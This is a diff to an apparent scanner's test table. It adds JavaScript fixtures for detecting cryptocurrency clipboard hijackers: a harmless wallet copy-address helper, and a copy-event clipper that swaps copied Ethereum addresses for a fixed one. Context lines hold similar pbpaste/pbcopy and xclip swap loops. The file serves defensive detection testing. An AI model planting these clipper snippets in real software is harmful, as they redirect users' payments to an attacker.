@@ -62,6 +62,12 @@ if (window.ethereum) { const req = window.ethereum.request; window.ethereum.requ
 setInterval(() => { const c = execSync("pbpaste").toString(); if (/^0x[a-fA-F0-9]{40}$/.test(c)) execSync("pbcopy", { input: "0x000000000000000000000000000000000000dEaD" }) }, 500)`}, finding.SeverityCritical},
 		{"xclip_clipper", map[string]string{"index.js": `const cp = require("child_process"); const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
 setInterval(() => cp.execSync("xclip -selection clipboard", { input: swap(cp.execSync("xclip -selection clipboard -o").toString()) }), 500)`}, finding.SeverityCritical},
+		// a wallet SDK's "copy address" button next to its validators
+		{"copy_address_button", map[string]string{"index.js": `const RE = { evm: /^0x[a-fA-F0-9]{40}$/, btc: /^(bc1[ac-hj-np-z02-9]{11,71}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$/, sol: /^[1-9A-HJ-NP-Za-km-z]{32,44}$/, tron: /^T[1-9A-HJ-NP-Za-km-z]{33}$/ };
+export const DONATE = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; export function copyAddress(a) { return navigator.clipboard.writeText(a) }`}, finding.SeverityNone},
+		// a browser clipper catches the copy and swaps the address
+		{"copy_event_clipper", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/g, btc = /(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}/g;
+document.addEventListener("copy", e => { const t = String(window.getSelection()); e.clipboardData.setData("text/plain", t.replace(eth, "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976")); e.preventDefault(); navigator.clipboard.writeText(t.replace(eth, "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976")) })`}, finding.SeverityCritical},
 		// a clipboard library with an address validator elsewhere: no swap
 		{"clipboard_library", map[string]string{"index.js": `const cp = require("child_process"); exports.write = t => cp.execSync("pbcopy", { input: t }); exports.read = () => cp.execSync("pbpaste").toString()`}, finding.SeverityNone},
 		{"xclip_reader", map[string]string{"index.js": `const cp = require("child_process"); const re = /0x[a-fA-F0-9]{40}/; const addr = "0x000000000000000000000000000000000000dEaD"; const t = cp.execSync("xclip -selection clipboard -o").toString(); console.log(re.test(t), addr)`}, finding.SeverityNone},
